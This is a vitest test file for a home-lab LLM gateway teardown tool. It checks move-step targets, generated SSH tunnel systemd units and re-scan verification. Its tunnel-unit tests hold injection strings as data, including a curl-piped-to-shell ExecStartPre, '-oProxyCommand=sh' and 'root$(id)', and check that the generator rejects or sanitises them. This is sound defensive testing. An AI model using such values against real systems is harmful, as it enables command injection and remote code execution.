import { describe, expect, it } from 'vitest';
import { mergeIntoLedger } from '../case/ledger.js';
import { MOVED, MOVERS, OLLA, labAfterMove, labWithOtherRouter, summarizerMovedThroughTunnel } from '../fixtures/route-around.js';
import { LAB, SAMPLE, sampleLabReport } from '../fixtures/sample-report.js';
import type { ConsumerFinding, ScanReport } from '../model/index.js';
import { generateChecklist, mergeProgress, type ChecklistStep, type ChecklistStepWithProgress } from './checklist.js';
import { tunnelUnit } from './route-targets.js';

/** The move step of a consumer (by finding id) in a report's plan. */
function moveStep(consumerId: string, report: ScanReport = sampleLabReport()): ChecklistStep {
  const step = generateChecklist(report).find((candidate) => candidate.id.startsWith('teardown:move-consumer:') && candidate.findingIds.includes(consumerId));
  if (!step) throw new Error(`no move step for ${consumerId}`);
  return step;
}

/** The consumer's move step after `scan2`, with the lab's ledger of both scans and `choice` picked and ticked before it. */
function afterMove(consumerId: string, choice: string, scan2: ScanReport): ChecklistStepWithProgress {
  const first = sampleLabReport();
  const id = moveStep(consumerId, first).id;
  const ledger = mergeIntoLedger(mergeIntoLedger(null, first), scan2);
  const progress = { [id]: { done: true, note: '', updatedAt: MOVED.tickedAt, doneAt: MOVED.tickedAt, choice } };
  const merged = mergeProgress(generateChecklist(scan2, ledger), progress, { scannedAt: scan2.scannedAt, hosts: scan2.hosts, findings: scan2.findings });
  const step = merged.steps.find((candidate) => candidate.id === id);
  if (!step) throw new Error(`no step ${id} after the move`);
  return step;
}

/** The lab with ollama's open-interpreter unit pointed at `url`. */
const ollamaPointsAt = (url: string, host: string, port: number) => (report: ScanReport) => {
  const ollama = report.hosts.find((candidate) => candidate.name === LAB.ollama)!;
  ollama.endpointReferences = [{ ...ollama.endpointReferences![0]!, url, targetHost: host, targetPort: port }];
};

describe('the targets of a consumer’s move step', () => {
  it('offers the Ollama the gateway routes llama3 to, reached on the consumer’s own host at 127.0.0.1, and each provider’s SDK', () => {
    const step = moveStep(MOVERS.ollamaHost);

    expect(step.choices?.map((choice) => choice.value)).toEqual(['direct-backend:http://ollama:11434', 'other-router', 'provider-sdk:openai', 'provider-sdk:anthropic']);
    const direct = step.choices![0]!;
    expect(direct.label).toBe('Direct backend http://ollama:11434 (llama3)');
    expect(direct.route).toEqual({ kind: 'direct-backend', backend: 'http://ollama:11434', models: ['llama3'], url: 'http://127.0.0.1:11434', place: { host: LAB.ollama, container: null, port: 11434 } });
    expect(direct.detail).toContain('Point it at http://127.0.0.1:11434');
    expect(step.choices![2]!).toMatchObject({ label: 'The openai SDK with its own key (gpt-4o)' });
    expect(step.choices![2]!.detail).toContain('can only verify that ollama no longer points at the gateway');
  });

  it('gives a container on the gateway’s network the backend URL as the gateway uses it, with no tunnel', () => {
    const direct = moveStep(MOVERS.openWebui).choices![0]!;

    expect(direct.route).toMatchObject({ url: 'http://ollama:11434', place: { host: LAB.ollama, container: null, port: 11434 } });
    expect(direct.route?.tunnel).toBeUndefined();
  });

  it("never offers the gateway's own container as the backend: a URL on its loopback that another scanned host owns is that host's", () => {
    // Arrange: the gateway's config names Ollama by a 127.x address that only the ollama host binds.
    const report = sampleLabReport();
    const gwHost = report.hosts.find((host) => host.gatewayConfigs?.some((config) => config.models.some((model) => model.apiBase === 'http://ollama:11434')))!;
    for (const config of gwHost.gatewayConfigs!) for (const model of config.models) if (model.apiBase === 'http://ollama:11434') model.apiBase = 'http://127.77.0.3:11434';
    const ollama = report.hosts.find((host) => host.name === LAB.ollama)!;
    ollama.addresses = [...(ollama.addresses ?? []), '127.77.0.3'];

    // Act
    const direct = moveStep(MOVERS.openWebui, report).choices!.find((choice) => choice.route?.kind === 'direct-backend');

    // Assert
    expect(direct?.route?.place).toEqual({ host: LAB.ollama, container: null, port: 11434 });
  });

  it('gives a unit on another host the text of a tunnel unit to the backend’s host, and the loopback URL it then uses', () => {
    const direct = moveStep(MOVERS.summarizer).choices![0]!;

    expect(direct.route?.url).toBe('http://127.0.0.1:11434');
    expect(direct.route?.tunnel?.unitName).toBe('route-around-summarizer-service-11434.service');
    expect(direct.route?.tunnel?.unitText).toContain(
      'ExecStart=/usr/bin/ssh -N -o ExitOnForwardFailure=yes -o ServerAliveInterval=30 -o ServerAliveCountMax=3 -L 127.0.0.1:11434:127.0.0.1:11434 -- root@ollama\n',
    );
    expect(direct.route?.tunnel?.unitText).toContain('Restart=always\n');
    expect(direct.route?.tunnel?.unitText).toContain('WantedBy=multi-user.target');
    expect(direct.detail).toContain('install the unit below on nodocker');
  });

  it('offers another router the scan found and does not judge exposed, by its URL from the consumer', () => {
    const report = labWithOtherRouter();

    const onOllama = moveStep(MOVERS.ollamaHost, report).choices!.find((choice) => choice.value === `other-router:${OLLA.id}`);
    const onNodocker = moveStep(MOVERS.summarizer, report).choices!.find((choice) => choice.value === `other-router:${OLLA.id}`);

    expect(onOllama).toMatchObject({ label: 'Another router: Olla olla on ollama', route: { kind: 'other-router', url: 'http://127.0.0.1:40114', place: { host: LAB.ollama, container: 'olla', port: null } } });
    expect(onNodocker?.route?.url).toBe('http://127.0.0.1:40114');
    expect(onNodocker?.route?.tunnel?.unitText).toContain('-L 127.0.0.1:40114:127.0.0.1:40114 -- root@ollama');
    expect(moveStep(MOVERS.ollamaHost, report).choices!.some((choice) => choice.value === 'other-router')).toBe(false);
  });

  it('keeps the generic choices only when the scan saw no backend behind the gateway', () => {
    const report = sampleLabReport();
    report.hosts.find((host) => host.name === SAMPLE.gw)!.gatewayConfigs = [];
    const gateway = report.findings.find((finding) => finding.kind === 'gateway')!;
    Object.assign(gateway, { backends: [] });

    expect(moveStep(MOVERS.openWebui, report).choices?.map((choice) => choice.value)).toEqual(['direct-backend', 'other-router', 'provider-sdk']);
  });
});

describe('the tunnel unit', () => {
  it('cannot be broken by a hostile consumer name: it only appears, reduced to safe characters, in the description', () => {
    const consumer = { consumer: "evil.service\nExecStartPre=/bin/sh -c 'curl x|sh' %h" } as Pick<ConsumerFinding, 'consumer'>;

    const unit = tunnelUnit(consumer, { destinationHost: 'ollama', user: 'root', localPort: 11434, remotePort: 11434 }, 'http://ollama:11434')!;

    expect(unit.unitText.split('\n').filter((line) => line.startsWith('ExecStart'))).toHaveLength(1);
    expect(unit.unitText).not.toMatch(/%|'|\|/);
    expect(unit.unitName).toMatch(/^[A-Za-z0-9_.-]+$/);
    expect(unit.unitText.split('\n')).toHaveLength(13);
  });

  it('is refused when the destination or login read from a host is not a plain name', () => {
    const plan = { destinationHost: 'ollama', user: 'root', localPort: 11434, remotePort: 11434 };
    const consumer = { consumer: 'app' };

    expect(tunnelUnit(consumer, { ...plan, destinationHost: '-oProxyCommand=sh' }, 't')).toBeNull();
    expect(tunnelUnit(consumer, { ...plan, destinationHost: 'ollama\nExecStartPre=/bin/true' }, 't')).toBeNull();
    expect(tunnelUnit(consumer, { ...plan, destinationHost: 'host name' }, 't')).toBeNull();
    expect(tunnelUnit(consumer, { ...plan, user: 'root$(id)' }, 't')).toBeNull();
    expect(tunnelUnit(consumer, { ...plan, localPort: 0 }, 't')).toBeNull();
  });

  it('is not offered when the backend name in the gateway config would break it; the choice says to write it yourself', () => {
    const report = sampleLabReport();
    const config = report.hosts.find((host) => host.name === SAMPLE.gw)!.gatewayConfigs![0]!;
    config.models[0]!.apiBase = 'http://-oProxyCommand=x:11434';
    report.hosts.find((host) => host.name === LAB.ollama)!.addresses!.push('-oproxycommand=x');

    const direct = moveStep(MOVERS.summarizer, report).choices![0]!;

    expect(direct.route?.tunnel).toBeUndefined();
    expect(direct.detail).toContain('write the tunnel yourself');
  });
});

describe('verifying the move by re-scan', () => {
  it('keeps the step id and its targets once the consumer finding is gone, so the pick keeps its meaning', () => {
    const scan2 = labAfterMove(MOVERS.ollamaHost, ollamaPointsAt('http://127.0.0.1:11434', '127.0.0.1', 11434));

    const step = afterMove(MOVERS.ollamaHost, 'direct-backend:http://ollama:11434', scan2);

    expect(step.kept).toBeDefined();
    expect(step.choices).toEqual(moveStep(MOVERS.ollamaHost).choices);
  });

  it('verifies a consumer that now points at the picked backend, naming the setting', () => {
    const scan2 = labAfterMove(MOVERS.ollamaHost, ollamaPointsAt('http://127.0.0.1:11434', '127.0.0.1', 11434));

    const step = afterMove(MOVERS.ollamaHost, 'direct-backend:http://ollama:11434', scan2);

    expect(step.verified).toBe(true);
    expect(step.routeAround).toEqual({
      target: 'http://127.0.0.1:11434',
      pointsAtTarget: true,
      evidence: ['http://127.0.0.1:11434 (OPENAI_API_BASE in /etc/systemd/system/open-interpreter.service)'],
    });
  });

  it('verifies a unit on another host that reaches the backend through a tunnel forwarding its local port there', () => {
    const scan2 = labAfterMove(MOVERS.summarizer, summarizerMovedThroughTunnel);

    const step = afterMove(MOVERS.summarizer, 'direct-backend:http://ollama:11434', scan2);

    expect(step).toMatchObject({ verified: true, routeAround: { pointsAtTarget: true } });
    expect(step.routeAround?.evidence[0]).toContain(`http://127.0.0.1:11434 (OPENAI_BASE_URL in /etc/systemd/system/${LAB.consumerUnit})`);
  });

  it('does not verify a consumer that left the gateway for somewhere else, and says where it points', () => {
    const scan2 = labAfterMove(MOVERS.ollamaHost, ollamaPointsAt('http://192.168.50.10:8000', '192.168.50.10', 8000));

    const step = afterMove(MOVERS.ollamaHost, 'direct-backend:http://ollama:11434', scan2);

    expect(step).toMatchObject({ done: true, verified: false, doneByEvidence: null, routeAround: { pointsAtTarget: false } });
    expect(step.routeAround?.evidence[0]).toBe(
      'http://192.168.50.10:8000 (OPENAI_API_BASE in /etc/systemd/system/open-interpreter.service): lands on host gw port 8000, not on the chosen target',
    );
  });

  it('does not verify a move when the consumer’s host was not read', () => {
    const scan2 = labAfterMove(MOVERS.ollamaHost, (report) => {
      const ollama = report.hosts.find((host) => host.name === LAB.ollama)!;
      Object.assign(ollama, { status: 'unreachable' });
      delete ollama.endpointReferences;
    });

    const step = afterMove(MOVERS.ollamaHost, 'direct-backend:http://ollama:11434', scan2);

    expect(step).toMatchObject({ verified: false, routeAround: { pointsAtTarget: false } });
    expect(step.routeAround?.evidence[0]).toContain('ollama was not read');
  });

  it('verifies a move to a provider’s SDK by the consumer no longer pointing at the gateway, and says that is all it can see', () => {
    const scan2 = labAfterMove(MOVERS.openWebui, (report) => {
      const gw = report.hosts.find((host) => host.name === SAMPLE.gw)!;
      gw.endpointReferences = [];
    });

    const step = afterMove(MOVERS.openWebui, 'provider-sdk:openai', scan2);

    expect(step).toMatchObject({ verified: true, routeAround: { target: 'openai', pointsAtTarget: true } });
    expect(step.routeAround?.evidence[0]).toContain('the scan cannot see a call made with the openai SDK');
  });
});
